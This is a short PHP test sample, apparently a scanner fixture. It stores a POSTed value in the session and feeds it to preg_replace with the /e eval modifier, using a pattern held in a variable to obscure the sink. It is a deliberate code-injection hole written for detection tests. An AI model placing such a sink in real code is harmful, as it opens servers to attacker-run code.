<?php
// code posted once, kept in the session, run later by preg_replace's /e through a pattern
// held in a variable (written for the tests, never run)
session_start();
if (isset($_POST['tpl'])) {
    $_SESSION['tpl'] = $_POST['tpl'];
}
$rx = '#.+#se';
if (!empty($_SESSION['tpl'])) {
    echo preg_replace($rx, '$_SESSION["tpl"]', 'x');
}
